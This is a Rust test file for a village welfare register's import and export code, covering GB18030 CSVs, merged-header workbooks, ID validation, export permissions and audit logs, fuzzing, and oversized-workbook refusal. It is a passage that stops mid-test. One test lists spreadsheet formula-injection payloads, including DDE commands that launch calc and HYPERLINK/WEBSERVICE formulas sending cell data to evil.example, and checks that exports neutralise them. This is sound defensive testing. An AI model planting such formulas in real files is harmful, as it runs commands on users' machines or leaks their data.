//! Registers as tables: what village offices really have on their disks, in and out.

use super::support::*;
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook, Worksheet};
use serde_json::{Value, json};
use shouwang_node::desk::export::{Export, FileForm, What};
use shouwang_node::desk::import::{Mode, Reject, Report, Shown, Told};
use shouwang_node::desk::{DeskError, Person};
use shouwang_node::store::reader::Page;
use shouwang_node::tables;
use shouwang_protocol::records::household::Household;
use shouwang_protocol::records::staff::Role;
use std::os::unix::fs::PermissionsExt as _;

const GOOD: &str = "34052419800101001X";

async fn village() -> Machine {
    let city = city().await;
    let village = Machine::new(VILLAGE).await;
    sync(&village, &city).await;
    village
}

struct Taken {
    report: Report,
    rejects: Vec<Reject>,
    shown: Vec<Shown>,
}

async fn take(machine: &Machine, name: &str, bytes: &[u8], mode: Mode) -> Taken {
    let (mut rejects, mut shown) = (Vec::new(), Vec::new());
    let tell = |told: Told| match told {
        Told::Rejected(reject) => rejects.push(reject),
        Told::Shown(row) => shown.push(row),
    };
    let report = machine.desk.import_upload(&machine.clerk(), name, bytes.to_vec(), mode, tell).await.expect("reads");
    Taken { report, rejects, shown }
}

async fn households(machine: &Machine) -> Vec<Household> {
    let listed = machine.desk.households(&machine.clerk(), Default::default(), Page::first(500)).await.expect("lists");
    let mut found = Vec::new();
    for row in listed.rows {
        found.push(machine.desk.household(&machine.clerk(), row.record, 1).await.expect("a page").detail.household);
    }
    found
}

fn counts(report: &Report) -> (u64, u64, u64, u64) {
    (report.created, report.changed, report.unchanged, report.rejected)
}

fn sheet<'a>(book: &'a mut Workbook, name: &str, rows: &[Vec<String>]) -> &'a mut Worksheet {
    let sheet = book.add_worksheet();
    sheet.set_name(name).expect("a name");
    for (at, row) in (0..).zip(rows) {
        for (column, text) in (0..).zip(row).filter(|(_, text)| !text.is_empty()) {
            sheet.write_string(at, column, text).expect("writes");
        }
    }
    sheet
}

fn strings(rows: &[&[&str]]) -> Vec<Vec<String>> {
    rows.iter().map(|row| row.iter().map(|text| (*text).to_owned()).collect()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_gb18030_register_with_a_title_page_headers_and_totals_becomes_households() {
    let village = village().await;
    let text = format!(
        "杨舍镇甲村困难群众名册,,,,,,,,\r\n序号,户主\r\n姓 名,姓名,与户主关系,身份证号码,民族,\"家庭\n住址\",联系电话,年收入（元）,低保证号\r\n",
    )
    .replace("户主\r\n姓 名", "\"户主\r\n姓 名\"");
    let text = text
        + &format!("1,𠮷田一郎,𠮷田一郎,户主,{GOOD},汉族,甲村 3 组,１３８００００１１１１,\"12,000.50\",0012\r\n")
        + &format!("2,,买买提·吐尔逊,之子,{},维吾尔族,,,,\r\n", id_no(3))
        + "序号,户主姓名,姓名,与户主关系,身份证号码,民族,家庭住址,联系电话,年收入（元）,低保证号\r\n"
        + &format!("3,张　三,张　三,户主,{},汉族,\" 永安路\n12 号 \",,800元,\r\n合计,,,,,,,,12800.50,\r\n", id_no(5));
    let (bytes, _, unmappable) = encoding_rs::GB18030.encode(&text);
    assert!(!unmappable && std::str::from_utf8(&bytes).is_err());

    let looked = take(&village, "名册.csv", &bytes, Mode::Check).await;
    assert_eq!(counts(&looked.report), (2, 0, 0, 0), "{:?}", looked.rejects.first().map(|reject| &reject.reason));
    assert_eq!(looked.report.notes, ["不认得的栏目按原样存入“其他”：低保证号"]);
    assert!(households(&village).await.is_empty(), "looking writes nothing");
    let done = take(&village, "名册.csv", &bytes, Mode::Write).await;
    assert_eq!(counts(&done.report), (2, 0, 0, 0));

    let mut found = households(&village).await;
    found.sort_by_key(|household| household.members.len());
    let [zhang, yoshida] = found.as_slice() else { panic!("two households") };
    assert_eq!((zhang.head.as_str(), zhang.address.as_str()), ("张三", "永安路 12 号"));
    assert_eq!(zhang.income_annual.map(|fen| fen.0), Some(80_000));
    assert_eq!((yoshida.head.as_str(), yoshida.head_id_no.as_str()), ("𠮷田一郎", GOOD));
    assert_eq!(yoshida.income_annual.map(|fen| fen.0), Some(1_200_050));
    assert_eq!((yoshida.phone.as_str(), yoshida.region.as_str()), ("13800001111", "320582100201"));
    assert_eq!(yoshida.members[1].name, "买买提·吐尔逊");
    assert_eq!(yoshida.members[0].other["低保证号"], "0012", "what no field is known for is kept");

    // The same again, saved as UTF-8 by another program, adds nothing.
    let again = take(&village, "名册.csv", text.as_bytes(), Mode::Write).await;
    assert_eq!(counts(&again.report), (0, 0, 2, 0));
    let marked = [[0xEF, 0xBB, 0xBF].as_slice(), text.as_bytes()].concat();
    assert_eq!(counts(&take(&village, "名册.csv", &marked, Mode::Write).await.report), (0, 0, 2, 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workbook_of_forty_households_with_merged_headers_and_three_sheets_comes_in_once() {
    let village = village().await;
    let mut book = Workbook::new();
    let dates = Format::new().set_num_format("yyyy/m/d");
    let first = sheet(&mut book, "家庭", &[]);
    first.merge_range(0, 0, 0, 6, "甲村低收入家庭", &Format::new()).expect("merges");
    first.merge_range(1, 0, 2, 0, "户编号", &Format::new()).expect("merges");
    first.merge_range(1, 1, 1, 2, "户主", &Format::new()).expect("merges");
    first.write_string(2, 1, "姓名").expect("writes").write_string(2, 2, "身份证号").expect("writes");
    for (column, header) in [(3, "困难类别"), (4, "年收入（元）"), (5, "所属村"), (6, "建档干部")] {
        first.merge_range(1, column, 2, column, header, &Format::new()).expect("merges");
    }
    let name = |n: u32| match n % 4 {
        0 => format!("阿卜杜热合曼·买买提明·艾则孜{n}"),
        1 => format!("𠮷{n}"),
        2 => format!("欧阳㛃{n}"),
        _ => format!("李某{n}"),
    };
    for n in 0..40 {
        let at = n + 3;
        first.write_string(at, 0, format!("JC{n:03}")).expect("writes");
        first.write_string(at, 1, name(n)).expect("writes").write_string(at, 2, id_no(n * 4)).expect("writes");
        first.write_string(at, 3, "低保户").expect("writes").write_number(at, 4, 9_800.25).expect("writes");
        first.write_string(at, 5, "甲村村委会").expect("writes").write_string(at, 6, "王干部").expect("writes");
    }
    let members = sheet(&mut book, "成员", &strings(&[&["户编号", "姓名", "与户主关系", "身份证号", "出生日期", "参加医保"]]));
    for n in 0..40 {
        for (row, relation) in [(0, "户主"), (1, "之子")] {
            let at = 1 + n * 2 + row;
            let own = if row == 0 { name(n) } else { format!("子{n}") };
            members.write_string(at, 0, format!("JC{n:03}")).expect("writes").write_string(at, 1, own).expect("writes");
            members.write_string(at, 2, relation).expect("writes").write_string(at, 3, id_no(n * 4 + row)).expect("writes");
            let born = ExcelDateTime::from_ymd(1960, 1, 1).expect("a date");
            members.write_datetime_with_format(at, 4, &born, &dates).expect("writes").write_boolean(at, 5, true).expect("writes");
        }
    }
    sheet(
        &mut book,
        "发放",
        &strings(&[
            &["户编号", "编号", "日期", "项目", "金额(元)", "备注"],
            &["JC007", "F-1", "2019年1月10日", "低保金", "945", "一月"],
            &["JC007", "F-2", "2019.2.10", "低保金", "945", ""],
        ]),
    );
    sheet(&mut book, "填表说明", &strings(&[&["请如实填写"]]));
    let bytes = book.save_to_buffer().expect("saves");

    let looked = take(&village, "低收入.xlsx", &bytes, Mode::Check).await;
    assert_eq!(counts(&looked.report), (40, 0, 0, 0), "{:?}", looked.rejects.first().map(|reject| &reject.reason));
    assert!(looked.report.notes.iter().any(|note| note.contains("填表说明")), "a sheet that was not read is told");
    let done = take(&village, "低收入.xlsx", &bytes, Mode::Write).await;
    assert_eq!(counts(&done.report), (40, 0, 0, 0));
    let found = households(&village).await;
    let seven = found.iter().find(|household| household.id == "JC007").expect("the seventh");
    assert_eq!((seven.head.as_str(), seven.members.len(), seven.aid.len()), ("李某7", 2, 2));
    assert_eq!(seven.aid[1].date.map(|day| day.to_string()), Some("2019-02-10".into()));
    assert_eq!(seven.members[1].birth.map(|day| day.to_string()), Some("1960-01-01".into()));
    assert_eq!((seven.members[1].insured, seven.other["建档干部"].as_str()), (Some(true), "王干部"));
    assert!(found.iter().any(|household| household.head == "阿卜杜热合曼·买买提明·艾则孜8" && household.head_id_no == id_no(32)));
    assert_eq!(
        counts(&take(&village, "低收入.xlsx", &bytes, Mode::Write).await.report),
        (0, 0, 40, 0),
        "importing twice adds nothing"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_excel_or_a_tired_clerk_spoiled_is_refused_with_line_and_header() {
    let village = village().await;
    let header = ["户编号", "户主姓名", "身份证号", "年收入(元)", "出生日期", "银行账号"];
    let wrong = id_no(9).replace(['0', '1', '2', '3', '4', '5', '6', '7', '8', '9', 'X'], "7");
    let rows: Vec<[&str; 6]> = vec![
        ["a1", "甲", "34052419800101001x", "", "", ""],
        ["a2", "乙", "３４０５２４１９８００１０１００１Ｘ", "", "", ""],
        ["a3", "丙", "340524800101001", "", "", ""],
        ["b1", "丁", &wrong, "", "", ""],
        ["b2", "戊", "3.20582E+17", "", "", ""],
        ["b3", "己", "320582198001010000", "", "", ""],
        ["b4", "庚", "", "-500", "", ""],
        ["b5", "辛", "", "99999999999", "", ""],
        ["b6", "壬", "", "很多", "", ""],
        ["b7", "癸", "", "", "1980-02-30", ""],
        ["b8", "子", "", "", "", "6.21774E+18"],
        ["a1", "甲", "34052419800101001x", "", "", ""],
        ["", "丑", "", "", "", ""],
    ];
    let mut text = header.join(",") + "\n";
    rows.iter().for_each(|row| text.push_str(&(row.join(",") + "\n")));
    let path = village.dir.path().join("册子.csv");
    std::fs::write(&path, &text).expect("writes");
    let console = village.desk.console().await.expect("a console");
    let report = village.desk.import_file(&console, &path, |_, _| {}).await.expect("imports");
    assert_eq!(counts(&report), (3, 0, 0, 10));
    let file = report.rejects_file.expect("a file");
    assert_eq!(std::fs::metadata(&file).expect("a file").permissions().mode() & 0o777, 0o600);
    let lines: Vec<Value> =
        std::fs::read_to_string(&file).expect("reads").lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    let told: Vec<(u64, &str, &str)> = lines
        .iter()
        .map(|row| {
            (row["line"].as_u64().unwrap_or_default(), row["column"].as_str().unwrap_or(""), row["reason"].as_str().unwrap_or(""))
        })
        .collect();
    let expected = [
        (5, "身份证号", "校验位"),
        (6, "身份证号", "Excel"),
        (7, "身份证号", "Excel"),
        (8, "年收入(元)", "不能为负"),
        (9, "年收入(元)", "过大"),
        (10, "年收入(元)", "应为数字"),
        (11, "出生日期", "没有这一天"),
        (12, "银行账号", "Excel"),
        (13, "户编号", "前面已有"),
        (14, "户编号", "无法辨认"),
    ];
    assert_eq!(told.len(), expected.len(), "{told:?}");
    for ((line, column, reason), (at, header, part)) in told.iter().zip(expected) {
        assert!(*line == at && *column == header && reason.contains(part), "{line} {column} {reason}: not {at} {header} {part}");
    }
    assert_eq!(lines[0]["row"]["id"], "b1");
    assert!(!told.iter().any(|(_, _, reason)| reason.contains("7777")), "a reason never holds the value");

    // The same in a workbook, where the number is a number.
    let mut book = Workbook::new();
    let numbers = sheet(
        &mut book,
        "表一",
        &strings(&[&["户编号", "户主姓名", "身份证号", "联系电话"], &["c1", "寅"], &["c2", "卯"], &["c3", "辰"]]),
    );
    numbers.write_number(1, 2, 320_582_198_001_010_012.0).expect("writes");
    numbers.write_number(2, 2, 340_524_800_101_001.0).expect("writes").write_number(2, 3, 13_800_001_111.0).expect("writes");
    numbers.write_formula(3, 3, rust_xlsxwriter::Formula::new("=1/0").set_result("#DIV/0!")).expect("writes");
    let taken = take(&village, "", &book.save_to_buffer().expect("saves"), Mode::Write).await;
    assert_eq!(
        counts(&taken.report),
        (1, 0, 0, 2),
        "{:?}",
        taken.rejects.iter().map(|reject| &reject.reason).collect::<Vec<_>>()
    );
    assert_eq!((taken.rejects[0].line, taken.rejects[0].sheet.as_deref()), (2, Some("表一")));
    assert!(taken.rejects[0].reason.contains("被 Excel 当成了数字"), "{}", taken.rejects[0].reason);
    assert!(taken.rejects[1].reason.contains("#DIV/0!") && taken.rejects[1].line == 4, "{}", taken.rejects[1].reason);

    let console = village.person("console-less", &[Role::Approver]);
    let refused = village.desk.import_upload(&console, "x.csv", text.into_bytes(), Mode::Check, |_| {}).await;
    assert!(matches!(refused, Err(DeskError::NotPermitted { .. })));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rows_of_one_household_that_disagree_about_money_are_refused_and_other_words_are_kept() {
    let village = village().await;
    let text = format!(
        "户主身份证号,户主姓名,姓名,与户主关系,身份证号,年收入,联系电话\n\
         {GOOD},甲,甲,户主,{GOOD},1000,13800000001\n{GOOD},甲,乙,配偶,{},1000,13800000002\n\
         {},丙,丙,户主,{},2000,\n{},丙,丁,之子,{},3000,\n",
        id_no(1),
        id_no(2),
        id_no(2),
        id_no(2),
        id_no(3)
    );
    let taken = take(&village, "a.csv", text.as_bytes(), Mode::Write).await;
    assert_eq!(counts(&taken.report), (1, 0, 0, 1));
    assert!(taken.rejects[0].reason.contains("“年收入”不一致（第 5 行）"), "{}", taken.rejects[0].reason);
    let found = households(&village).await;
    assert_eq!(found[0].phone, "13800000001");
    assert_eq!(found[0].members[1].other["联系电话"], "13800000002", "the second number is not lost");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_preview_says_which_fields_change_and_who_lives_elsewhere_and_writes_nothing() {
    let village = village().await;
    let text = |phone: &str, more: &str| {
        format!(
            "户编号,户主姓名,身份证号,联系电话,住址\np1,甲,{},{phone},一组\np2,乙,{},13900000002,二组\n{more}",
            id_no(20),
            id_no(21)
        )
    };
    assert_eq!(counts(&take(&village, "a.csv", text("13900000001", "").as_bytes(), Mode::Write).await.report), (2, 0, 0, 0));
    let more = format!("p3,甲,{},,三组\np4,戊,{},,\np5,戊,{},,\np6,己,123,,\n", id_no(20), id_no(22), id_no(22));
    let looked = take(&village, "a.csv", text("13700000009", &more).as_bytes(), Mode::Check).await;
    assert_eq!(counts(&looked.report), (3, 1, 1, 1));
    assert_eq!(looked.report.duplicates, 2, "one in the records, one in the file itself");
    let changed: Vec<&Shown> = looked.shown.iter().filter(|row| !row.new).collect();
    assert_eq!((changed.len(), changed[0].line, changed[0].id.as_str()), (1, 2, "p1"));
    let change: Vec<(&str, &str, &str)> =
        changed[0].changes.iter().map(|change| (change.label.as_str(), change.was.as_str(), change.now.as_str())).collect();
    assert_eq!(change, [("联系电话", "13900000001", "13700000009")]);
    let elsewhere: Vec<(&str, &str)> =
        looked.shown.iter().flat_map(|row| row.elsewhere.iter().map(|person| (row.id.as_str(), person.place.as_str()))).collect();
    assert_eq!(elsewhere, [("p3", "杨舍镇甲村"), ("p5", "本文件中的另一户")]);
    assert_eq!(households(&village).await.len(), 2);
    assert!(households(&village).await.iter().any(|household| household.phone == "13900000001"));

    // What was shown is what is done.
    let done = take(&village, "a.csv", text("13700000009", &more).as_bytes(), Mode::Write).await;
    assert_eq!((counts(&done.report), done.report.duplicates), (counts(&looked.report), looked.report.duplicates));
    assert!(done.shown.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_register_without_ids_finds_the_household_of_its_head_and_a_list_of_payments_finds_it_too() {
    let village = village().await;
    let line = Value::from(row("k1", VILLAGE)).to_string();
    take(&village, "a.jsonl", line.as_bytes(), Mode::Write).await;
    let head = row("k1", VILLAGE)["members"][0]["id_no"].as_str().unwrap_or_default().to_owned();
    let text = format!("户主姓名,户主身份证号,联系电话\n户主k1,{head},13600000000\n");
    assert_eq!(counts(&take(&village, "a.csv", text.as_bytes(), Mode::Write).await.report), (0, 1, 0, 0));
    let text = format!(
        "户主身份证号,救助编号,发放日期,项目名称,救助金额\n{head},X-9,2019-03-01,临时救助,500\n{head},X-9b,2019-03-02,临时救助,1\n"
    );
    let taken = take(&village, "a.csv", text.as_bytes(), Mode::Write).await;
    assert_eq!(counts(&taken.report), (0, 1, 0, 0), "{:?}", taken.rejects);
    let found = households(&village).await;
    assert_eq!((found.len(), found[0].id.as_str(), found[0].phone.as_str()), (1, "k1", "13600000000"));
    assert_eq!((found[0].aid.len(), found[0].members.len()), (3, 2));

    // Another office's village is another office's matter, by name as by code.
    let text = format!("户主姓名,户主身份证号,村(社区)\n外村,{},乙村\n", id_no(77));
    let taken = take(&village, "a.csv", text.as_bytes(), Mode::Write).await;
    assert!(taken.rejects[0].reason.contains("没有这个村"), "{}", taken.rejects[0].reason);
    for (name, bytes) in
        [("a.csv", b"just,some\nwords,here\n".as_slice()), ("a.xls", &[0xD0, 0xCF, 0x11, 0xE0, 1]), ("a.xlsx", b"PK\x03\x04zzz")]
    {
        let refused = village.desk.import_upload(&village.clerk(), name, bytes.to_vec(), Mode::Check, |_| {}).await;
        assert!(matches!(refused, Err(DeskError::Invalid { .. })), "{name}");
    }
}

fn export(what: What, form: FileForm) -> Export {
    Export { what, form, area: None, purpose: "年度复核".into() }
}

async fn export_as(machine: &Machine, person: &Person, form: FileForm) -> Vec<u8> {
    machine.desk.export(person, export(What::Households, form)).await.expect("exports").bytes
}

/// Households as a year of work leaves them: every kind of value, in every field, from a seed.
fn generated(seed: u64, count: u32) -> Vec<u8> {
    let mut state = seed;
    let mut next = move |bound: u64| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) % bound
    };
    let texts = ["", "一组", "=1+1", "'引号", "  两端 ", "多\n行\t文", "𠮷·㛃", "\"q\",;", "0012", "(空)", "＝全角"];
    let mut lines = Vec::new();
    for n in 0..count {
        let mut text = |_: &str| texts[next(texts.len() as u64) as usize].to_owned();
        let mut value = json!({
            "id": format!("g{seed}-{n}"), "region": "320582100201", "head": format!("户主{n}"),
            "address": text("a"), "group": text("g"), "remark": text("r"), "type": text("t"), "status": "在档",
            "自定义": text("o"), "低保证号": text("o"), "officer": text("f"), "created_at": "2020-12-05T01:53:01Z",
        });
        let others =
            [json!(null), json!(true), json!(-7), json!(1.25), json!([1, {"深": "层"}]), json!({"a": null}), json!("文")];
        value["编号外"] = others[next(7) as usize].clone();
        value["income_annual"] =
            [json!(null), json!(0), json!(1.1), json!(99_999_999.99), json!("1200")][next(5) as usize].clone();
        value["land_mu"] = [json!(0.5), json!(12), json!(1.125)][next(3) as usize].clone();
        value["phone"] = [json!("051258112345"), json!("13800001111"), json!("不详")][next(3) as usize].clone();
        value["bank_account"] = json!("6217748875587160239");
        let births = [json!(null), json!("1953年"), json!("1960-01-01")];
        let members = (0..next(4)).map(|m| {
            let number =
                [json!(""), json!(id_no(n * 4 + m as u32)), json!("340524800101001")][(m.min(1) + next(2)) as usize % 2].clone();
            json!({"name": format!("成员{m}"), "relation": if m == 0 { "户主" } else { "之子" }, "id_no": number,
                   "birth": births[next(3) as usize].clone(), "insured": next(2) == 1, "爱好": texts[next(11) as usize]})
        });
        value["members"] = members.collect();
        let aid = (0..next(3)).map(|a| json!({"no": format!("{n}-{a}"), "date": "2019-01-10", "program": "低保金", "amount": 945.5, "note": texts[next(11) as usize]}));
        value["aid"] = aid.collect();
        lines.push(value.to_string());
    }
    lines.join("\n").into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_exported_jsonl_comes_back_as_unchanged_in_every_row_whatever_the_households_hold() {
    let village = village().await;
    let reviewer = village.person("r", &[Role::Reviewer, Role::Intake]);
    for seed in 1..=6 {
        let done = take(&village, "g.jsonl", &generated(seed, 60), Mode::Write).await;
        assert_eq!(
            counts(&done.report),
            (60, 0, 0, 0),
            "{:?}",
            done.rejects.first().map(|reject| (&reject.field, &reject.reason))
        );
    }
    let bytes = export_as(&village, &reviewer, FileForm::Jsonl).await;
    assert_eq!(bytes.iter().filter(|byte| **byte == b'\n').count(), 360);
    let again = take(&village, "g.jsonl", &bytes, Mode::Check).await;
    assert_eq!(counts(&again.report), (0, 0, 360, 0), "{:?} {:?}", again.shown.first(), again.rejects.first());
    assert_eq!(export_as(&village, &reviewer, FileForm::Jsonl).await, bytes, "the same households, the same bytes");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plain_register_survives_the_way_through_a_workbook_and_through_a_csv() {
    let village = village().await;
    let reviewer = village.person("r", &[Role::Reviewer, Role::Intake]);
    let mut lines = Vec::new();
    for n in 0..20 {
        let mut household = row(&format!("w{n:02}"), VILLAGE);
        household["members"] = json!([
            {"name": format!("户主w{n:02}"), "relation": "户主", "id_no": id_no(n * 2), "health": "残疾", "爱好": "下棋"},
            {"name": "=1+1", "relation": "之子", "id_no": id_no(n * 2 + 1), "insured": true},
        ]);
        household.insert("低保证号".into(), "0012".into());
        household.insert("备注".into(), "键名也是标签".into());
        lines.push(Value::from(household).to_string());
    }
    take(&village, "w.jsonl", lines.join("\n").as_bytes(), Mode::Write).await;
    for (name, form) in [("w.xlsx", FileForm::Xlsx), ("w.csv", FileForm::Csv)] {
        let bytes = export_as(&village, &reviewer, form).await;
        let again = take(&village, name, &bytes, Mode::Check).await;
        assert_eq!(counts(&again.report), (0, 0, 20, 0), "{name}: {:?} {:?}", again.shown.first(), again.rejects.first());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_needs_a_role_and_a_purpose_and_stands_in_a_list_that_auditors_read() {
    let village = village().await;
    let household = village.household("k1").await;
    let (clerk, reviewer) = (village.person("c", &[Role::Intake]), village.person("r", &[Role::Reviewer]));
    let auditor = village.person("a", &[Role::Auditor]);
    for person in [&clerk, &auditor] {
        let refused = village.desk.export(person, export(What::Households, FileForm::Xlsx)).await;
        assert!(matches!(refused, Err(DeskError::NotPermitted { .. })));
    }
    let silent = Export { purpose: " ".into(), ..export(What::Households, FileForm::Csv) };
    assert!(matches!(village.desk.export(&reviewer, silent).await, Err(DeskError::Invalid { .. })));
    let abroad = Export { area: Some("320582107201".into()), ..export(What::Households, FileForm::Csv) };
    assert!(village.desk.export(&reviewer, abroad).await.is_err(), "another office's village");
    assert!(village.desk.exports(&auditor, Page::first(9)).await.expect("reads").rows.is_empty(), "nothing went out yet");

    village.open_case(&village.clerk(), application(household)).await;
    for (what, form) in [(What::Households, FileForm::Xlsx), (What::Cases, FileForm::Csv), (What::Cases, FileForm::Xlsx)] {
        let wanted = Export { area: Some("320582100201".into()), ..export(what, form) };
        let exported = village.desk.export(&reviewer, wanted).await.expect("exports");
        assert_eq!(exported.rows, 1);
        if form == FileForm::Csv {
            let text = String::from_utf8(exported.bytes).expect("text");
            assert!(text.contains("\"受理编号\"") && text.contains("\"户主k1\"") && text.contains("\"k1\""), "{text}");
        }
    }
    let listed = village.desk.exports(&auditor, Page::first(2)).await.expect("reads");
    assert!(listed.more && listed.rows.len() == 2);
    assert_eq!((listed.rows[0].staff.as_str(), listed.rows[0].purpose.as_str(), listed.rows[0].rows), ("r", "年度复核", 1));
    assert_eq!(
        (listed.rows[0].what.as_str(), listed.rows[0].form.as_str(), listed.rows[0].area.as_str()),
        ("cases", "xlsx", "320582100201")
    );
    assert!(matches!(village.desk.exports(&reviewer, Page::first(2)).await, Err(DeskError::NotPermitted { .. })));
    let village = village.restart().await;
    assert_eq!(village.desk.exports(&auditor, Page::first(9)).await.expect("reads").rows.len(), 3, "and stays there");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_in_every_text_field_come_out_harmless() {
    let village = village().await;
    let reviewer = village.person("r", &[Role::Reviewer]);
    let payloads = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
        "=WEBSERVICE(\"http://evil.example\")",
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "@A1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{3000}=1+1",
        "\u{200b}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "%0A-3+3+cmd|'!D2",
        "|calc",
        "a;=1+1",
        "a,=1+1",
        "\",=1+1,\"",
        "'=1+1",
        "''=1+1",
        "a\r\n=1+1",
    ];
    let lines: Vec<String> = payloads
        .iter()
        .enumerate()
        .map(|(n, text)| {
            json!({
                "id": format!("{text}{n}"), "region": "320582100201", "head": text, "group": text, "address": text, "type": text, "cause": text,
                "phone": text, "bank": text, "bank_account": text, "officer": text, "remark": text, "status": text, *text: text, "created_at": text,
                "members": [{"name": text, "relation": text, "ethnic": text, "birth": text, "education": text, *text: text}],
                "aid": [{"no": text, "date": text, "program": text, "amount": 1, "officer": text, "note": text, *text: text}],
            })
            .to_string()
        })
        .collect();
    let done = take(&village, "p.jsonl", lines.join("\n").as_bytes(), Mode::Write).await;
    assert_eq!(counts(&done.report), (payloads.len() as u64, 0, 0, 0), "{:?}", done.rejects.first());

    let csv = export_as(&village, &reviewer, FileForm::Csv).await;
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&csv[3..]);
    let mut fields = 0;
    for record in reader.records() {
        for field in record.expect("a record").iter() {
            let first = field
                .trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || matches!(c, '\u{feff}' | '\u{200b}'))
                .chars()
                .next();
            assert!(!first.is_some_and(|first| "=+-@＝＋－＠|%".contains(first)), "{field:?}");
            fields += 1;
        }
    }
    assert!(fields > payloads.len() * 20);
    assert!(!String::from_utf8_lossy(&csv).lines().any(|line| !line.is_empty() && !line.contains('"')), "every field is quoted");

    let xlsx = export_as(&village, &reviewer, FileForm::Xlsx).await;
    let sheets = tables::xlsx::read(&xlsx).expect("reads");
    assert_eq!(sheets.iter().map(|sheet| sheet.name.as_str()).collect::<Vec<_>>(), ["家庭", "成员", "受助记录"]);
    for payload in payloads {
        let found = sheets.iter().flat_map(|sheet| &sheet.rows).flat_map(|(_, cells)| cells);
        assert!(
            found.filter(|cell| **cell == tables::Cell::Text(payload.to_owned())).count() > 12,
            "{payload:?} is a text, everywhere"
        );
    }
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).expect("an archive");
    for part in 0..archive.len() {
        let mut text = String::new();
        std::io::Read::read_to_string(&mut archive.by_index(part).expect("a part"), &mut text).expect("text");
        assert!(!text.contains("<f>") && !text.contains("<f ") && !text.contains("<hyperlink"), "no formula, no link");
    }
}

#[test]
fn two_thousand_spoiled_files_never_panic_and_never_hang() {
    let mut state = 20_190_719_u64;
    let mut next = move |bound: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize % bound.max(1)
    };
    let csv = format!("户编号,户主姓名,姓名,与户主关系,身份证号,年收入(元)\nx1,甲,甲,户主,{GOOD},100\nx1,甲,\"乙\n乙\",之子,,\n")
        .into_bytes();
    let gb = encoding_rs::GB18030.encode(&String::from_utf8_lossy(&csv)).0.into_owned();
    let mut book = Workbook::new();
    let rows = strings(&[
        &["户编号", "户主姓名", "姓名", "与户主关系", "身份证号", "出生日期"],
        &["x1", "甲", "甲", "户主", GOOD, "1980-01-01"],
    ]);
    sheet(&mut book, "家庭", &rows).write_number(2, 5, 29_221.5).expect("writes");
    let xlsx = book.save_to_buffer().expect("saves");
    // The parts of a workbook too, spoiled before they are packed, so that what is inside is reached.
    let mut parts = Vec::new();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(&xlsx)).expect("an archive");
    for part in 0..archive.len() {
        let mut file = archive.by_index(part).expect("a part");
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut file, &mut bytes).expect("reads");
        parts.push((file.name().expect("a name").into_owned(), bytes));
    }
    let mut spoil = |bytes: &[u8]| -> Vec<u8> {
        let mut bytes = bytes.to_vec();
        for _ in 0..=next(6) {
            let at = next(bytes.len());
            match next(5) {
                0 => bytes.truncate(at),
                1 if !bytes.is_empty() => bytes[at] = next(256) as u8,
                2 => bytes.insert(at.min(bytes.len()), b"\",\n\t'<>&\0\xFF"[next(10)]),
                3 if !bytes.is_empty() => drop(bytes.remove(at)),
                _ => {
                    let piece: Vec<u8> = bytes.iter().skip(at).take(40).copied().collect();
                    let to = next(bytes.len());
                    bytes.splice(to..to, piece);
                }
            }
        }
        bytes
    };
    let (mut read, mut refused) = (0, 0);
    for round in 0..2_000 {
        let (format, bytes) = match round % 4 {
            0 => (tables::Format::Csv, spoil(&csv)),
            1 => (tables::Format::Csv, spoil(&gb)),
            2 => (tables::Format::Xlsx, spoil(&xlsx)),
            _ => {
                let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
                let chosen = round / 4 % parts.len();
                for (number, (name, bytes)) in parts.iter().enumerate() {
                    writer.start_file(name.as_str(), zip::write::SimpleFileOptions::default()).expect("a part");
                    let bytes = if number == chosen { spoil(bytes) } else { bytes.clone() };
                    std::io::Write::write_all(&mut writer, &bytes).expect("writes");
                }
                (tables::Format::Xlsx, writer.finish().expect("an archive").into_inner())
            }
        };
        match tables::read(format, &bytes) {
            Ok(_) => read += 1,
            Err(_) => refused += 1,
        }
    }
    assert!(read > 300 && refused > 300, "both happen: {read} read, {refused} refused");
}

#[test]
fn a_sheet_that_claims_a_billion_cells_and_one_that_inflates_without_end_are_refused() {
    let mut book = Workbook::new();
    let far = sheet(&mut book, "远", &strings(&[&["户编号", "户主姓名"], &["x", "甲"]]));
    far.write_string(1_048_575, 16_383, "角").expect("writes");
    let told = tables::read(tables::Format::Xlsx, &book.save_to_buffer().expect("saves")).expect_err("refused").to_string();
    assert!(told.contains("300 列"), "{told}");
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    writer.start_file("xl/sharedStrings.xml", zip::write::SimpleFileOptions::default()).expect("a part");
    let zeros = vec![b' '; 1024 * 1024];
